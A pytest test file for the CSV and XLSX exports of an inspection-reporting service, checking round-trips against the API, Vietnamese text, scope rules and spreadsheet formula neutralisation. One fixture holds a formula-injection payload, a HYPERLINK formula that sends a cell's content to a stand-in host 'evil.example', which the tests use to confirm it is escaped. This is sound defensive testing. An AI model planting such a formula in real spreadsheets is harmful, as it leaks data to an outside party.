"""CSV and XLSX exports: they round-trip to what the JSON API says, neutralise formulas, keep
Vietnamese, carry the actions' history, stay in scope and never show a planned visit."""

from __future__ import annotations

import csv
import io
import uuid
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from reports import exports
from reports.exports import COLUMNS, cell, neutralise
from reports.schemas import ExportKind
from server.actions.tables import CorrectiveAction
from tests.conftest import World, build_world, problem_detail
from tests.reports.builders import (
    Sessions,
    add_user,
    empty_tables,
    inspect,
    plan_only,
    verify_action,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
NOTES = {
    "A1": HYPERLINK,
    "A2": "+1",
    "A3": "-2 cán bộ vắng mặt",
    "A4": "@SUM(1+1)",
    "B1": "Cán bộ tiếp dân niềm nở; quầy số 3 vắng người từ 8 giờ 15",
}
STAFF = "Nguyễn Thị Hồng Nhung"
MANUAL_FINDINGS = [
    {
        "category": "discipline",
        "severity": "major",
        "description": "=1+1 Cán bộ sử dụng điện thoại cá nhân trong giờ làm việc",
        "staff_name": STAFF,
    },
    {
        "category": "facilities",
        "severity": "minor",
        "description": "Ghế chờ bị hỏng, thiếu nước uống cho người dân",
    },
]


@dataclass
class Data:
    world: World
    sessions: Sessions
    inspection_id: str
    other_id: str
    planned_id: str


@pytest.fixture(scope="module")
async def data(client: httpx.AsyncClient) -> Data:
    await empty_tables()
    world = await build_world()
    await add_user(world, "leader_c1", "leader", "C1")
    sessions = Sessions(client, world)
    inspection_id = await inspect(
        client, world, "C1", {"A5", "C1"}, notes=NOTES, manual_findings=MANUAL_FINDINGS
    )
    other_id = await inspect(client, world, "C2", {"B1"}, sign=False)
    planned_id = await plan_only(client, world, "C1")
    # One action with a full history, its fix report starting like a formula.
    action = (
        await CorrectiveAction.select(CorrectiveAction.id)
        .where(
            CorrectiveAction.inspection_id == uuid.UUID(inspection_id),
            CorrectiveAction.severity == "critical",
        )
        .first()
    )
    await verify_action(client, sessions, str(action["id"]), report="-Đã bố trí lại lịch trực")
    return Data(world, sessions, inspection_id, other_id, planned_id)


async def download(
    client: httpx.AsyncClient, headers: dict[str, str], name: str, **params: Any
) -> httpx.Response:
    query = {key: str(value) for key, value in params.items() if value is not None}
    return await client.get(f"/api/v1/exports/{name}", params=query, headers=headers)


def parse_csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM"
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def parse_xlsx(response: httpx.Response) -> list[dict[str, Any]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    workbook = load_workbook(io.BytesIO(response.content), read_only=True)
    (sheet,) = workbook.worksheets
    rows = list(sheet.iter_rows(values_only=True))
    header = [str(value) for value in rows[0]]
    # A read-only sheet ends a row at its last non-empty cell; the rest are empty cells.
    return [
        dict(zip(header, [*row, *[None] * (len(header) - len(row))], strict=True))
        for row in rows[1:]
    ]


def as_text(value: Any) -> str:
    """An XLSX value as the CSV writes it."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


async def detail(client: httpx.AsyncClient, headers: dict[str, str], inspection_id: str) -> dict:
    response = await client.get(f"/api/v1/inspections/{inspection_id}", headers=headers)
    assert response.status_code == 200, response.text
    return dict(response.json())


# --- Round trips ---------------------------------------------------------------------------------


async def test_inspections_round_trip_to_the_api(client: httpx.AsyncClient, data: Data) -> None:
    leader = await data.sessions("leader_d1")
    listed = (await client.get("/api/v1/inspections", headers=leader)).json()
    started = {row["id"]: row for row in listed if row["started_at"]}

    for fmt in ("csv", "xlsx"):
        response = await download(client, leader, f"inspections.{fmt}")
        rows = parse_csv(response) if fmt == "csv" else parse_xlsx(response)
        assert list(rows[0]) == COLUMNS[ExportKind.inspections]
        assert {row["inspection_id"] for row in rows} == set(started)
        for row in rows:
            api = started[row["inspection_id"]]
            assert row["unit_code"] == api["unit"]["code"]
            assert row["unit_name_vi"] == api["unit"]["name_vi"]
            assert row["status"] == api["status"]
            assert row["visit_date"] == api["visit_date"]
            assert row["rating_band"] == api["rating_band"]
            assert float(row["total_score"]) == pytest.approx(api["total_score"])
            assert datetime_equal(row["started_at"], api["started_at"])
        full = await detail(client, leader, data.inspection_id)
        (mine,) = [row for row in rows if row["inspection_id"] == data.inspection_id]
        assert mine["section_scores"] == "; ".join(
            f"{section['key']}: {'' if section['score'] is None else section['score']}"
            for section in full["score"]["sections"]
        )


def datetime_equal(exported: str, api: str) -> bool:
    from datetime import datetime

    return datetime.fromisoformat(exported) == datetime.fromisoformat(api.replace("Z", "+00:00"))


async def test_answers_round_trip_with_notes_neutralised(
    client: httpx.AsyncClient, data: Data
) -> None:
    leader = await data.sessions("leader_d1")
    answers = (await detail(client, leader, data.inspection_id))["answers"]
    by_item = {answer["item_key"]: answer for answer in answers}

    for fmt in ("csv", "xlsx"):
        response = await download(client, leader, f"answers.{fmt}")
        rows = [
            {key: as_text(value) for key, value in row.items()}
            for row in (parse_csv(response) if fmt == "csv" else parse_xlsx(response))
        ]
        mine = {row["item_key"]: row for row in rows if row["inspection_id"] == data.inspection_id}
        assert set(mine) == set(by_item)
        for key, row in mine.items():
            api = by_item[key]
            assert row["note"] == neutralise(api["note"]) if api["note"] else row["note"] == ""
            assert row["evidence_count"] == str(len(api["evidence"]))
            stored = api["value"] or {}
            for field in ("value", "numerator", "denominator"):
                exported, expected = row[field], stored.get(field)
                if expected is None:
                    assert exported == ""
                elif isinstance(expected, int | float) and not isinstance(expected, bool):
                    assert float(exported) == pytest.approx(expected)
                else:
                    assert exported == str(expected)
        # What a spreadsheet would have evaluated is now plain text, and Vietnamese survives.
        assert mine["A1"]["note"] == "'" + HYPERLINK
        assert mine["A2"]["note"] == "'+1"
        assert mine["A3"]["note"] == "'-2 cán bộ vắng mặt"
        assert mine["A4"]["note"] == "'@SUM(1+1)"
        assert mine["B1"]["note"] == NOTES["B1"]
        assert {row["inspection_id"] for row in rows} == {data.inspection_id, data.other_id}


async def test_findings_round_trip_with_vietnamese_and_no_formulas(
    client: httpx.AsyncClient, data: Data
) -> None:
    leader = await data.sessions("leader_d1")
    findings = (await detail(client, leader, data.inspection_id))["findings"]

    for fmt in ("csv", "xlsx"):
        response = await download(client, leader, f"findings.{fmt}")
        rows = [
            {key: as_text(value) for key, value in row.items()}
            for row in (parse_csv(response) if fmt == "csv" else parse_xlsx(response))
        ]
        mine = {
            row["finding_id"]: row for row in rows if row["inspection_id"] == data.inspection_id
        }
        assert set(mine) == {finding["id"] for finding in findings}
        for finding in findings:
            row = mine[finding["id"]]
            assert row["description"] == neutralise(finding["description"])
            assert (row["category"], row["severity"], row["source"]) == (
                finding["category"],
                finding["severity"],
                finding["source"],
            )
            assert row["item_key"] == (finding["item_key"] or "")
            assert row["staff_name"] == (finding["staff_name"] or "")
            assert row["legal_basis"] == "; ".join(finding["legal_basis"])
        manual = [row for row in mine.values() if row["source"] == "manual"]
        assert {row["description"] for row in manual} == {
            "'=1+1 Cán bộ sử dụng điện thoại cá nhân trong giờ làm việc",
            "Ghế chờ bị hỏng, thiếu nước uống cho người dân",
        }
        assert STAFF in {row["staff_name"] for row in manual}
        checklist = [row for row in mine.values() if row["source"] == "checklist"]
        assert {row["item_key"] for row in checklist} == {"A5", "C1"}
        # The A1 note was passing, so it is no finding; a failed item's note is in its text.
        assert all(not row["description"].startswith(("=", "+", "-", "@")) for row in rows)


async def test_actions_carry_their_history(client: httpx.AsyncClient, data: Data) -> None:
    leader = await data.sessions("leader_d1")
    actions = (await client.get("/api/v1/actions", headers=leader)).json()
    assert actions

    for fmt in ("csv", "xlsx"):
        response = await download(client, leader, f"actions.{fmt}")
        rows = [
            {key: as_text(value) for key, value in row.items()}
            for row in (parse_csv(response) if fmt == "csv" else parse_xlsx(response))
        ]
        assert {row["action_id"] for row in rows} == {action["id"] for action in actions}
        for row in rows:
            api = (await client.get(f"/api/v1/actions/{row['action_id']}", headers=leader)).json()
            lines = row["history"].split("\n")
            assert row["history_events"] == str(len(api["history"])) == str(len(lines))
            for line, event in zip(lines, api["history"], strict=True):
                assert line.startswith(event["at"].replace("Z", "+00:00")[:19])
                assert event["kind"] in line and event["actor_label"] in line
                if event["to_status"]:
                    assert f"→ {event['to_status']}" in line
            assert row["status"] == api["status"]
            assert row["overdue"] == ("true" if api["overdue"] else "false")
            assert row["title_vi"] == neutralise(api["title_vi"])
            assert row["report"] == (neutralise(api["report"]) if api["report"] else "")
        (verified,) = [row for row in rows if row["status"] == "verified"]
        assert verified["verified_on_time"] == "true"
        assert verified["report"] == "'-Đã bố trí lại lịch trực"
        history = verified["history"]
        for step in ("open", "acknowledged", "in_progress", "submitted", "verified"):
            assert step in history
        assert "Đã nhận, sẽ khắc phục" in history and "Đã kiểm tra lại tại chỗ" in history


@pytest.mark.parametrize("kind", [kind.value for kind in ExportKind])
async def test_csv_and_xlsx_hold_the_same_cells(
    client: httpx.AsyncClient, data: Data, kind: str
) -> None:
    leader = await data.sessions("leader_d1")
    from_csv = parse_csv(await download(client, leader, f"{kind}.csv"))
    from_xlsx = parse_xlsx(await download(client, leader, f"{kind}.xlsx"))

    assert len(from_csv) == len(from_xlsx) > 0
    for csv_row, xlsx_row in zip(from_csv, from_xlsx, strict=True):
        assert list(csv_row) == list(xlsx_row) == COLUMNS[ExportKind(kind)]
        for key, value in xlsx_row.items():
            if isinstance(value, int | float) and not isinstance(value, bool):
                # (a spreadsheet reads 7623.0 back as 7623)
                assert float(csv_row[key]) == pytest.approx(value), key
            else:
                assert csv_row[key] == as_text(value), key
        # Numbers stay numbers in the spreadsheet.
        for key in ("total_score", "evidence_count", "history_events"):
            if xlsx_row.get(key) is not None:
                assert isinstance(xlsx_row[key], int | float), key


@pytest.mark.parametrize("kind", [kind.value for kind in ExportKind])
async def test_small_pages_give_the_same_file(
    client: httpx.AsyncClient, data: Data, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Rows are read in keyset pages; page boundaries lose or repeat nothing."""
    leader = await data.sessions("leader_d1")
    whole = (await download(client, leader, f"{kind}.csv")).content
    monkeypatch.setattr(exports, "PAGE_SIZE", 1)
    paged = (await download(client, leader, f"{kind}.csv")).content
    assert paged == whole


async def test_the_response_is_a_named_attachment(client: httpx.AsyncClient, data: Data) -> None:
    response = await download(
        client,
        await data.sessions("leader_d1"),
        "findings.xlsx",
        period_from="2020-01-01",
        period_to="2100-12-31",
    )
    assert response.status_code == 200
    assert response.headers["content-disposition"] == (
        'attachment; filename="findings-D1-2020-01-01_2100-12-31.xlsx"; '
        "filename*=UTF-8''findings-D1-2020-01-01_2100-12-31.xlsx"
    )


# --- Scope and secrecy ---------------------------------------------------------------------------


@pytest.mark.parametrize("viewer", ["head_c1", "leader_c1", "leader_d1", "admin"])
@pytest.mark.parametrize("kind", [kind.value for kind in ExportKind])
async def test_a_planned_visit_is_in_no_export(
    client: httpx.AsyncClient, data: Data, viewer: str, kind: str
) -> None:
    response = await download(client, await data.sessions(viewer), f"{kind}.csv")
    rows = parse_csv(response)
    assert data.planned_id not in response.text
    if kind in ("inspections", "answers", "findings"):
        assert data.inspection_id in {row["inspection_id"] for row in rows}


async def test_a_unit_head_exports_only_their_own_subtree(
    client: httpx.AsyncClient, data: Data
) -> None:
    head = await data.sessions("head_c1")
    rows = parse_csv(await download(client, head, "inspections.csv"))
    assert {row["unit_code"] for row in rows} == {"C1"}
    other = await download(client, head, "inspections.csv", unit_id=data.world.units["C2"])
    assert other.status_code == 404
    problem_detail(other)


async def test_a_unit_filter_narrows_to_its_subtree(client: httpx.AsyncClient, data: Data) -> None:
    leader = await data.sessions("leader_d1")
    rows = parse_csv(await download(client, leader, "findings.csv", unit_id=data.world.units["C2"]))
    assert rows and {row["unit_code"] for row in rows} == {"C2"}
    actions = parse_csv(
        await download(client, leader, "actions.csv", unit_id=data.world.units["C2"])
    )
    assert actions and {row["inspected_unit_code"] for row in actions} == {"C2"}


async def test_a_period_filters_by_visit_date(client: httpx.AsyncClient, data: Data) -> None:
    leader = await data.sessions("leader_d1")
    for kind in ExportKind:
        rows = parse_csv(
            await download(
                client,
                leader,
                f"{kind.value}.csv",
                period_from="2001-01-01",
                period_to="2001-12-31",
            )
        )
        assert rows == [], kind


@pytest.mark.parametrize(
    ("viewer", "name", "params", "status"),
    [
        ("inspector", "inspections.csv", {}, 403),
        ("leader_d1", "inspections.csv", {"unit": "D2"}, 404),
        ("leader_d1", "actions.xlsx", {"unit": "P"}, 404),
        ("head_c1", "findings.csv", {"unit": "D1"}, 404),
        ("leader_d1", "plans.csv", {}, 404),
        ("leader_d1", "inspections.pdf", {}, 404),
        ("leader_d1", "inspections", {}, 404),
        (
            "leader_d1",
            "findings.csv",
            {"period_from": "2026-02-01", "period_to": "2026-01-01"},
            422,
        ),
    ],
)
async def test_refusals_are_problems(
    client: httpx.AsyncClient,
    data: Data,
    viewer: str,
    name: str,
    params: dict[str, str],
    status: int,
) -> None:
    query = dict(params)
    if "unit" in query:
        query["unit_id"] = str(data.world.units[query.pop("unit")])
    response = await download(client, await data.sessions(viewer), name, **query)
    assert response.status_code == status, response.text
    problem_detail(response)


# --- Cells ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Bình thường = tốt", "Bình thường = tốt"),
        ("", ""),
        (" =1", " =1"),
    ],
)
def test_neutralise(value: str, expected: str) -> None:
    assert neutralise(value) == expected


def test_numbers_and_empty_cells_stay_as_they_are() -> None:
    assert cell(-2.5) == -2.5
    assert cell(0) == 0
    assert cell(None) is None
    assert cell(True) is True
    assert cell(uuid.UUID(int=1)) == "00000000-0000-0000-0000-000000000001"
